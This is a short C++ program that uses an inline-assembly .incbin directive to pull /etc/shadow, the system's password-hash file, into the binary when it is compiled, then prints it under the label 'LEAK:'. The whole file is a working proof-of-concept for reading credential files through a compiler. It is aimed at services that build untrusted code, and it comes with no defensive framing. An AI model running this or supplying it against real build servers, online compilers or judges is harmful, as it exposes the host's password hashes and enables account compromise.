#include <cstdio>
asm(".data\nfrom: .incbin \"/etc/shadow\"\nto: .byte 0\n.text");
extern const char from[] asm("from");
int main() { std::printf("LEAK: %s\n", from); }
